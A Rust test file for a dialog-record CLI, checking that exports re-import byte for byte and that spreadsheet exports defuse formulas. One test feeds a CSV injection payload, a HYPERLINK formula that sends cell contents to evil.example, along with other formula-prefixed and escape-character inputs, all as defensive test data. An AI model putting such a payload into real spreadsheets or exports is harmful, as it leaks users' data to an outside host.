//! An export can be imported again without losing a byte.

use crate::sandbox::Sandbox;
use crate::scenes::{dialog_line, imported, json_lines};

#[test]
fn an_export_fills_a_new_store_with_the_same() {
    let sandbox = Sandbox::new();
    sandbox.ok(&["generate", "-u", "20", "-d", "2500", "-c", "2100", "--seed", "7"]);
    sandbox.ok(&["export", "--plain", "-o", "first.jsonl"]);
    sandbox.ok(&["export", "--plain", "-o", "first.csv"]);
    assert_eq!(sandbox.ok(&["export", "--plain"]).lines().count(), 2100);

    for file in ["first.jsonl", "first.csv"] {
        let store = format!("sqlite:{file}.db");
        let ran = sandbox.run(&["--store", &store, "import", file]);
        assert_eq!(ran.code, Some(0));
        assert_eq!(ran.err, "2100 stored, 0 already there, 0 refused\n");
        for (format, first) in [("jsonl", "first.jsonl"), ("csv", "first.csv")] {
            let again = sandbox.ok(&["--store", &store, "export", "--plain", "--format", format]);
            assert!(again.as_bytes() == sandbox.read(first), "{file} as {format} differs");
        }
    }
}

#[test]
fn awkward_values_keep_their_bytes() {
    let texts =
        ["a\r\nb\n\n\"c\" 'd', e;\\ \t", "👩‍👩‍👧 שלום\u{202e} \u{1b}[31m\u{feff}", " ", "\n", "=1+1"];
    let lines: String = texts
        .iter()
        .enumerate()
        .map(|(n, text)| dialog_line(&format!("d/{n}\u{2066}\"%2F,"), text))
        .collect();
    let sandbox = imported(&lines);
    sandbox.ok(&["export", "--plain", "-o", "out.CSV"]);
    sandbox.ok(&["--store", "sqlite:b.db", "import", "out.CSV"]);
    let back = sandbox.ok(&["--store", "sqlite:b.db", "export", "--plain"]);
    let mut back = json_lines(&back);
    back.reverse();
    assert_eq!(back, json_lines(&lines));
}

#[test]
fn an_export_has_the_members_of_the_contract_in_order_and_keeps_what_was_sent() {
    let sandbox = imported(
        r#"{"language":"PT-br","text":"olá","customer_id":"c","dialog_id":"d","consent_received":true,"date":"2026-03-01T11:00:00.5+01:00"}"#,
    );
    let expected = "{\"dialog_id\":\"d\",\"customer_id\":\"c\",\"text\":\"olá\",\
        \"language\":\"PT-br\",\"consent_received\":true,\"date\":\"2026-03-01T10:00:00.500000Z\"}\n";
    assert_eq!(sandbox.ok(&["export", "--plain"]), expected);
    assert_eq!(sandbox.ok(&["get", "c", "d"]), expected);
    assert_eq!(sandbox.ok(&["query", "--json"]), expected);
    assert_eq!(
        sandbox.ok(&["export", "--plain", "--format", "csv"]),
        "dialog_id,customer_id,text,language,consent_received,date\n\
         d,c,olá,PT-br,true,2026-03-01T10:00:00.500000Z\n"
    );
}

#[test]
fn a_seed_gives_the_same_dialogs() {
    let sandbox = Sandbox::new();
    let texts = |store: &str, seed: &str| {
        let store = format!("sqlite:{store}");
        sandbox.ok(&["--store", &store, "generate", "-d", "60", "-c", "60", "--seed", seed]);
        let mut dialogs: Vec<_> = sandbox
            .ok(&["--store", &store, "export", "--plain"])
            .lines()
            .map(|line| line.split("\"consent_received\"").next().expect("a part").to_owned())
            .collect();
        dialogs.sort();
        dialogs
    };
    assert_eq!(texts("a.db", "1"), texts("b.db", "1"));
    assert_ne!(texts("a.db", "1"), texts("c.db", "2"));

    let again = sandbox.run(&["--store", "sqlite:b.db", "generate", "-d", "60", "-c", "60"]);
    assert_eq!(
        (again.code, again.err.as_str()),
        (Some(0), "0 stored, 60 already there, 0 refused\n")
    );
    let more = sandbox.run(&["--store", "sqlite:b.db", "generate", "-d", "80", "-c", "60"]);
    assert_eq!(more.err, "20 stored, 60 already there, 0 refused\n");
}

#[test]
fn an_export_that_cannot_be_written_leaves_the_old_one() {
    let sandbox = Sandbox::new();
    sandbox.ok(&["generate", "-d", "1000"]);
    sandbox.write("old.jsonl", "old");
    let ran = sandbox.run(&["export", "--plain", "-o", "old.jsonl", "--language", "no tag"]);
    assert_eq!(ran.code, Some(2));
    assert_eq!(sandbox.read("old.jsonl"), b"old");
    let ran = sandbox.run(&["export", "--plain", "-o", "no/such/folder.jsonl"]);
    assert_eq!(ran.code, Some(1));
    assert!(ran.err.starts_with("error: the output cannot be written"), "{}", ran.err);
    // A limit on the size of files makes a write fail as a full disk does.
    let mut limited = std::process::Command::new("sh");
    limited.args(["-c", "trap '' XFSZ; ulimit -f 100; exec \"$0\" export -o old.jsonl"]);
    limited.arg(env!("CARGO_BIN_EXE_dataapi")).current_dir(sandbox.path());
    let failed = limited.output().expect("runs");
    assert_eq!(failed.status.code(), Some(1), "{failed:?}");
    let error = String::from_utf8_lossy(&failed.stderr);
    assert!(error.starts_with("error: the output cannot be written"), "{error}");
    assert_eq!(sandbox.read("old.jsonl"), b"old");
    assert_eq!(sandbox.files(), ["dialogs.db", "old.jsonl"]);

    sandbox.ok(&["export", "--plain", "-o", "old.jsonl"]);
    assert_ne!(sandbox.read("old.jsonl"), b"old");
    assert_eq!(sandbox.files(), ["dialogs.db", "old.jsonl"]);
}

#[test]
fn an_empty_csv_export_has_its_header() {
    let sandbox = Sandbox::new();
    sandbox.ok(&["generate", "-d", "3", "-c", "0"]);
    assert_eq!(
        sandbox.ok(&["export", "--plain", "--format", "csv"]),
        "dialog_id,customer_id,text,language,consent_received,date\n"
    );
    assert_eq!(sandbox.ok(&["export", "--plain"]), "");
}

#[test]
fn an_export_through_a_link_to_a_pipe_is_written_to_the_pipe() {
    let sandbox = Sandbox::new();
    sandbox.ok(&["generate", "-d", "10", "-c", "10"]);
    std::os::unix::fs::symlink("/proc/self/fd/1", sandbox.path().join("out")).expect("a link");
    let written = sandbox.ok(&["export", "--plain", "-o", "out"]);
    assert_eq!(written.lines().count(), 10);
    let link = std::fs::symlink_metadata(sandbox.path().join("out")).expect("is there");
    assert!(link.is_symlink());
}

#[test]
fn a_file_is_a_store_by_any_name_that_it_has() {
    let sandbox = Sandbox::new();
    for name in ["file:x.db", ":memory:", "x?mode=memory", "a%20b.db"] {
        sandbox.write(name, "");
        sandbox.ok(&["--store", &format!("sqlite:{name}"), "generate", "-d", "1"]);
        assert!(!sandbox.read(name).is_empty(), "{name}");
    }
    for name in ["file:y.db", ":memory:y"] {
        sandbox.ok(&["--store", &format!("sqlite:./{name}"), "generate", "-d", "1"]);
        assert!(sandbox.files().contains(&name.to_owned()), "{name}");
    }
}

#[test]
fn a_file_for_spreadsheets_has_no_formulas_and_comes_back_as_it_was() {
    let texts = [
        "=HYPERLINK(\"https://evil.example/?\"&A1)",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r\n=1",
        "＝1",
        "first\n=1;=2",
        "'tis",
        "Grüße, \"you\"",
    ];
    let lines: String = texts
        .iter()
        .enumerate()
        .map(|(n, text)| dialog_line(&format!("=d-{n}"), text))
        .collect::<String>()
        .replace(r#""customer_id":"c""#, r#""customer_id":"@c""#);
    let sandbox = imported(&lines);
    let written = sandbox.ok(&["export", "--plain", "--excel"]);
    assert!(written.starts_with("\u{feff}dialog_id,customer_id,text,"), "{written}");
    assert!(written.ends_with("Z\r\n"), "{written}");
    assert!(written.contains("'=d-0,'@c,\"'=HYPERLINK("), "{written}");
    // Whatever a spreadsheet takes for the end of a cell: no cell begins like a formula.
    for cell in written.split([',', ';', '\t', '\r', '\n']) {
        let cell = cell.trim_start_matches('"');
        assert!(!cell.starts_with(['=', '+', '-', '@', '＝']), "{cell:?} in {written}");
    }

    sandbox.ok(&["export", "--plain", "--excel", "-o", "sheet.csv"]);
    assert_eq!(sandbox.read("sheet.csv"), written.as_bytes());
    sandbox.ok(&["--store", "sqlite:b.db", "import", "--excel", "sheet.csv"]);
    let back = sandbox.ok(&["--store", "sqlite:b.db", "export", "--plain"]);
    assert_eq!(back, sandbox.ok(&["export", "--plain"]), "import --excel gives it back");
    // Without the flag, the mark at the beginning is skipped all the same, and the apostrophes stay.
    sandbox.ok(&["--store", "sqlite:c.db", "import", "sheet.csv"]);
    assert!(sandbox.ok(&["--store", "sqlite:c.db", "export"]).contains("\"'=d-0\""));
    let refused = sandbox.run(&["export", "--excel", "--format", "jsonl"]);
    assert_eq!(refused.code, Some(2), "{refused:?}");
}
